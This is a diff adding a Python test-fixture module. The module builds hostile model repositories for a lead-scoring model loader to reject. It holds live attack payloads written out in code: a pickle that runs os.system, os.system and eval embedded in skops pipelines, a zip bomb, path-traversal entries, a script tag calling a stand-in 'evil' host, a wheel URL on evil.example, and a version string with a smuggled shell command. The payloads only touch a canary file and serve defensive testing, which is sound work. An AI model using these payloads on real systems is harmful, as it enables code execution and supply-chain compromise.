@@ -1,0 +1,369 @@
+"""Model repositories that nobody should open, each built from a good one by a few lines of code.
+
+Whoever makes such a repository can make its checksums agree, so all of these have the checksum of
+their own model.skops, but for the ones whose very point it is. Every payload that could run would
+create the canary file.
+"""
+
+import functools
+import hashlib
+import io
+import json
+import operator
+import os
+import pickle
+import random
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import skops.io
+from sklearn.feature_extraction.text import CountVectorizer
+from sklearn.linear_model import LogisticRegression
+from sklearn.pipeline import Pipeline
+from sklearn.preprocessing import FunctionTransformer
+
+from leadmodel.model import LeadModel
+
+Files = dict[str, bytes]
+Hostile = Callable[[LeadModel, Path], Files]
+
+KINDS: dict[str, tuple[Hostile, str]] = {}
+"""By name: what builds the files, and the reason that the refusal must name."""
+
+
+def kind(name: str, reason: str) -> Callable[[Hostile], Hostile]:
+    """Add a kind of hostile repository."""
+
+    def add(build: Hostile) -> Hostile:
+        KINDS[name] = (build, reason)
+        return build
+
+    return add
+
+
+def with_model(good: LeadModel, content: bytes) -> Files:
+    """Put another model.skops into the good model's files, every checksum made to agree."""
+    old, new = good.config.sha256, hashlib.sha256(content).hexdigest()
+    files = dict(good.files) | {"model.skops": content}
+    for name in ("config.json", "README.md"):
+        files[name] = files[name].replace(old.encode(), new.encode())
+    return files
+
+
+def with_object(good: LeadModel, thing: Any) -> Files:
+    """Put a Pipeline with `thing` in it where the model was."""
+    return with_model(good, skops.io.dumps(Pipeline([("evil", thing), ("model", good.classifier)])))
+
+
+def with_schema(good: LeadModel, change: Callable[[dict[str, Any]], Any]) -> Files:
+    """Change the schema.json inside the model.skops."""
+    entries = unpacked(good)
+    schema = json.loads(entries["schema.json"])
+    replaced = change(schema)
+    entries["schema.json"] = json.dumps(schema if replaced is None else replaced).encode()
+    return with_model(good, packed(entries))
+
+
+def unpacked(good: LeadModel) -> Files:
+    with zipfile.ZipFile(io.BytesIO(good.files["model.skops"])) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def packed(entries: Files) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def with_blob(good: LeadModel, change: Callable[[bytearray], bytes | bytearray]) -> Files:
+    """Change the CatBoost model inside the model.skops."""
+    entries = unpacked(good)
+    name = next(name for name in entries if name.endswith(".bin"))
+    entries[name] = bytes(change(bytearray(entries[name])))
+    return with_model(good, packed(entries))
+
+
+def with_config(good: LeadModel, **entries: Any) -> Files:
+    """Change entries of config.json."""
+    content = json.loads(good.files["config.json"]) | entries
+    return dict(good.files) | {"config.json": json.dumps(content).encode()}
+
+
+def touch(canary: Path) -> str:
+    return f"touch {canary}"
+
+
+# --- skops files that name what must not run ----------------------------------------------------
+
+NOT_TRUSTED = "names types that are not trusted"
+
+
+@kind("os.system", f"{NOT_TRUSTED}.*system")
+def _system(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(os.system, kw_args={"command": touch(canary)}))
+
+
+@kind("builtins.eval", f"{NOT_TRUSTED}.*eval")
+def _eval(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(eval))
+
+
+@kind("functools.partial", f"{NOT_TRUSTED}.*partial")
+def _partial(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(functools.partial(os.system, touch(canary))))
+
+
+@kind("operator.methodcaller", f"{NOT_TRUSTED}.*methodcaller")
+def _methodcaller(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(operator.methodcaller("touch")))
+
+
+@kind("operator.attrgetter", f"{NOT_TRUSTED}.*attrgetter")
+def _attrgetter(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(operator.attrgetter("__class__")))
+
+
+@kind("a bound method", f"{NOT_TRUSTED}.*MethodNode")
+def _method(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, FunctionTransformer(LogisticRegression().fit))
+
+
+@kind("subprocess.Popen as an object", f"{NOT_TRUSTED}.*subprocess.Popen")
+def _popen(good: LeadModel, canary: Path) -> Files:
+    def change(schema: dict[str, Any]) -> None:
+        schema |= {"__module__": "subprocess", "__class__": "Popen"}
+
+    return with_schema(good, change)
+
+
+@kind("os.system behind a trusted loader", f"{NOT_TRUSTED}.*posix.system")
+def _type_node(good: LeadModel, canary: Path) -> Files:
+    def change(schema: dict[str, Any]) -> None:
+        node = {"__module__": "posix", "__class__": "system", "__loader__": "TypeNode", "__id__": 1}
+        schema["content"]["content"]["memory"] = node
+
+    return with_schema(good, change)
+
+
+@kind("an unknown loader", NOT_TRUSTED)
+def _loader(good: LeadModel, canary: Path) -> Files:
+    return with_schema(good, lambda schema: schema.update({"__loader__": "ReduceNode"}))
+
+
+@kind("an estimator that reads files", f"{NOT_TRUSTED}.*CountVectorizer")
+def _reads_files(good: LeadModel, canary: Path) -> Files:
+    return with_object(good, CountVectorizer(input="filename"))
+
+
+@kind("an object array of functions", NOT_TRUSTED)
+def _object_array(good: LeadModel, canary: Path) -> Files:
+    step = FunctionTransformer(kw_args={"x": np.array([os.system, eval], dtype=object)})
+    return with_object(good, step)
+
+
+@kind("an array file with a pickle in it", "has an entry that a model does not have: '.*npy'")
+def _npy(good: LeadModel, canary: Path) -> Files:
+    buffer = io.BytesIO()
+    np.save(buffer, np.array([_Bomb(canary)], dtype=object), allow_pickle=True)
+    return with_model(good, packed(unpacked(good) | {"139835010451408.npy": buffer.getvalue()}))
+
+
+@kind("a trusted class with a hostile state", "cannot be opened|must hold a Pipeline|cannot score")
+def _state(good: LeadModel, canary: Path) -> Files:
+    def change(schema: dict[str, Any]) -> None:
+        schema["content"]["content"]["steps"] = _json_node("__import__('os').system('x')")
+
+    return with_schema(good, change)
+
+
+@kind("a state that is no state", "cannot be opened|must hold a Pipeline")
+def _no_state(good: LeadModel, canary: Path) -> Files:
+    return with_schema(good, lambda schema: schema.update({"content": _json_node([1, 2])}))
+
+
+@kind("another estimator", f"{NOT_TRUSTED}.*LogisticRegression")
+def _other(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, skops.io.dumps(Pipeline([("other", LogisticRegression())])))
+
+
+def _json_node(value: Any) -> dict[str, Any]:
+    return {
+        "__module__": "builtins",
+        "__class__": "str",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+        "__id__": 7,
+    }
+
+
+class _Bomb:
+    """Runs a command when it is unpickled."""
+
+    def __init__(self, canary: Path) -> None:
+        self.canary = canary
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (touch(self.canary),)
+
+
+# --- archives that are no archives ----------------------------------------------------------------
+
+
+@kind("a pickle by the name of a skops file", "is not a skops file")
+def _pickle(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, pickle.dumps(_Bomb(canary)))
+
+
+@kind("an archive within the archive", "has an entry that a model does not have")
+def _nested(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, packed(unpacked(good) | {"inner.zip": good.files["model.skops"]}))
+
+
+@kind("an entry that climbs out", r"has an entry that a model does not have: '\.\./\.\./evil.bin'")
+def _climbs(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, packed(unpacked(good) | {"../../evil.bin": b"x"}))
+
+
+@kind("an archive that unpacks to half a gigabyte", "unpacks to")
+def _bomb(good: LeadModel, canary: Path) -> Files:
+    buffer = io.BytesIO(packed(unpacked(good)))
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("00000000-0000-0000-0000-000000000000.bin", "w") as entry:
+            for _ in range(500):
+                entry.write(bytes(1_000_000))
+    return with_model(good, buffer.getvalue())
+
+
+@kind("a hundred entries", "must hold at most")
+def _many(good: LeadModel, canary: Path) -> Files:
+    extra = {f"00000000-0000-0000-0000-{number:012d}.bin": b"" for number in range(100)}
+    return with_model(good, packed(unpacked(good) | extra))
+
+
+@kind("a schema that is no JSON", "has a damaged schema.json")
+def _no_json(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, packed(unpacked(good) | {"schema.json": b"{'a': 1}"}))
+
+
+@kind("a schema of a hundred thousand levels", "has a damaged schema.json")
+def _deep(good: LeadModel, canary: Path) -> Files:
+    return with_model(good, packed(unpacked(good) | {"schema.json": b"[" * 100_000 + b"]" * 100_000}))
+
+
+@kind("no schema", "is not a skops file")
+def _no_schema(good: LeadModel, canary: Path) -> Files:
+    entries = unpacked(good)
+    entries.pop("schema.json")
+    return with_model(good, packed(entries))
+
+
+# --- CatBoost models that are none ------------------------------------------------------------------
+
+
+@kind("a CatBoost model cut in half", "CatBoost (refuses|dies of) it")
+def _cut(good: LeadModel, canary: Path) -> Files:
+    return with_blob(good, lambda blob: blob[: len(blob) // 2])
+
+
+@kind("a CatBoost model of random bytes", "CatBoost (refuses|dies of) it")
+def _random(good: LeadModel, canary: Path) -> Files:
+    return with_blob(good, lambda blob: b"CBM1" + random.Random(0).randbytes(len(blob)))
+
+
+@kind("a manipulated CatBoost model", "CatBoost (refuses|dies of) it")
+def _manipulated(good: LeadModel, canary: Path) -> Files:
+    def change(blob: bytearray) -> bytearray:
+        # The size of the model's core and every table offset in it lead astray.
+        blob[8:200] = b"\xff\xff\xff\x7f" * 48
+        return blob
+
+    return with_blob(good, change)
+
+
+# --- files that are not of this model -----------------------------------------------------------------
+
+
+@kind("a swapped model", "the file was changed or damaged")
+def _swapped(good: LeadModel, canary: Path) -> Files:
+    return dict(good.files) | {"model.skops": packed(unpacked(good) | {"schema.json": b"{}"})}
+
+
+@kind("a swapped model with the old card", "README.md is not the card of this model")
+def _old_card(good: LeadModel, canary: Path) -> Files:
+    files = with_model(good, packed(unpacked(good)))
+    return files | {"README.md": good.files["README.md"]}
+
+
+@kind("a card with a script", "README.md holds markup that no card needs: '<script'")
+def _script(good: LeadModel, canary: Path) -> Files:
+    card = good.files["README.md"] + b"\n<script>fetch('//evil')</script>\n"
+    return dict(good.files) | {"README.md": card}
+
+
+@kind("requirements of another package", "requirements.txt must name the versions of config.json")
+def _requirements(good: LeadModel, canary: Path) -> Files:
+    return dict(good.files) | {"requirements.txt": b"catboost @ https://evil.example/catboost.whl\n"}
+
+
+@kind("a plot that is a page", "plots/roc.png must be a PNG image")
+def _plot(good: LeadModel, canary: Path) -> Files:
+    return dict(good.files) | {"plots/roc.png": b"<html><script>1</script>"}
+
+
+@kind("a profile of other fields", "must be of one model. Their fields differ")
+def _profile(good: LeadModel, canary: Path) -> Files:
+    profile = good.files["profile.json"].replace(b'"age"', b'"years"')
+    return dict(good.files) | {"profile.json": profile}
+
+
+# --- configurations that say what none says ----------------------------------------------------------
+
+
+@kind("an unknown entry", "at run_at_start: Extra inputs are not permitted")
+def _entry(good: LeadModel, canary: Path) -> Files:
+    return with_config(good, run_at_start=touch(canary))
+
+
+@kind("a model file elsewhere", "at sklearn: the block does not say what the rest says")
+def _elsewhere(good: LeadModel, canary: Path) -> Files:
+    block = json.loads(good.files["config.json"])["sklearn"]
+    return with_config(good, sklearn=block | {"model": {"file": "../../../etc/passwd"}})
+
+
+@kind("a threshold that is no number", "at decision.threshold")
+def _threshold(good: LeadModel, canary: Path) -> Files:
+    decision = json.loads(good.files["config.json"])["decision"]
+    return with_config(good, decision=decision | {"threshold": float("nan")})
+
+
+@kind("a version that is a command", "at versions.catboost: String should match")
+def _version(good: LeadModel, canary: Path) -> Files:
+    versions = good.config.versions | {"catboost": f"1.2; {touch(canary)}"}
+    return with_config(good, versions=versions)
+
+
+@kind("a checksum that is a path", "at sha256: String should match")
+def _checksum(good: LeadModel, canary: Path) -> Files:
+    return with_config(good, sha256="../../../../tmp/evil")
+
+
+@kind("a configuration of ten megabytes", "config.json must have at most")
+def _large(good: LeadModel, canary: Path) -> Files:
+    return dict(good.files) | {"config.json": b" " * 10_000_000 + good.files["config.json"]}
+
+
+def write(folder: Path, files: Files) -> None:
+    """Write the files as they are, without the care of the product."""
+    for name, content in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content)
+
+
+__all__ = ["KINDS", "write"]
